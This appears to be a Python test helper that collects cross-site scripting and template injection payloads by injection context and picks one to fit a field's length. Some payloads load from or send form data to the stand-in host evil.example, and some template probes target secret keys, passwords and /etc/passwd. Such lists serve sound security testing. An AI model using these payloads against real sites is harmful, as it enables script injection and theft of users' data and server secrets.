"""Words that would run somewhere, by where they would: each is short enough for any field."""

TAGS = [
    "<script>alert(7)</script>",
    "</title><script>alert(7)</script>",
    "</textarea><script>alert(7)</script>",
    "</script><script>alert(7)</script>",
    "<ScRiPt>alert(7)</sCrIpT>",
    "<script src=//evil.example/7></script>",
    "<script/x>alert(7)</script>",
    "<<script>alert(7)//<</script>",
    "<img src=x onerror=alert(7)>",
    "<img/src=x/onerror=alert(7)>",
    "<image src=x onerror=alert(7)>",
    "<img src=x onerror=alert(7)//",
    "<svg onload=alert(7)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(7)><text y=9>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>",
    "<details open ontoggle=alert(7)>x",
    "<input autofocus onfocus=alert(7)>",
    "<body onload=alert(7)>",
    "<video><source onerror=alert(7)>",
    "<audio src=x onerror=alert(7)>",
    "<marquee onstart=alert(7)>x",
    "<iframe srcdoc='<script>alert(7)</script>'>",
    "<iframe src=javascript:alert(7)>",
    "<object data=javascript:alert(7)>",
    "<embed src=javascript:alert(7)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example/7.css>",
    "<style>@import'//evil.example/7'</style>",
    "<form action=//evil.example><input name=pin>",
    "<button formaction=javascript:alert(7)>x",
    "<template><script>alert(7)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>",
    "<!--><img src=x onerror=alert(7)>-->",
    "<![CDATA[<img src=x onerror=alert(7)>]]>",
    "<a href=javascript:alert(7)>x</a>",
    "<a href='java\tscript:alert(7)'>x</a>",
    "<a href='&#106;avascript:alert(7)'>x</a>",
    "<a href=data:text/html,<script>alert(7)</script>>x</a>",
    "<a href=vbscript:alert(7)>x</a>",
    "<p style='background:url(javascript:alert(7))' onclick=alert(7)>x</p>",
    "<x contenteditable onblur=alert(7)>x",
]
ATTRIBUTES = [
    '" onmouseover=alert(7) x="',
    "' onmouseover=alert(7) x='",
    '" autofocus onfocus=alert(7) x="',
    '"><img src=x onerror=alert(7)>',
    "'><img src=x onerror=alert(7)>",
    "` onmouseover=alert(7) `",
    '" style="animation-name:x" onanimationstart="alert(7)',
    "javascript:alert(7)",
    "x onfocus=alert(7) autofocus",
]
SCRIPTS = ["'-alert(7)-'", '"-alert(7)-"', "\\'-alert(7)//", "${alert(7)}", "';alert(7);//", "{{constructor.constructor('alert(7)')()}}"]
TEMPLATES = [
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{user.password}",
    "{x.__class__}",
    "%(password)s",
    '#read("/etc/passwd")',
    "{{7*7}}",
]
ENCODED = [
    "&lt;img src=x onerror=alert(7)&gt;",
    "&amp;lt;script&amp;gt;alert(7)",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "\\u003cscript\\u003ealert(7)",
]

PAYLOADS = [*TAGS, *ATTRIBUTES, *SCRIPTS, *TEMPLATES, *ENCODED]
ALL = " ".join(PAYLOADS)


def taken(number: int, most: int) -> str:
    """The payload of this number that fits into a field; of a long field, all of them."""
    if most >= len(ALL):
        return ALL
    fitting = [payload for payload in PAYLOADS if len(payload) <= most]
    return fitting[number % len(fitting)]
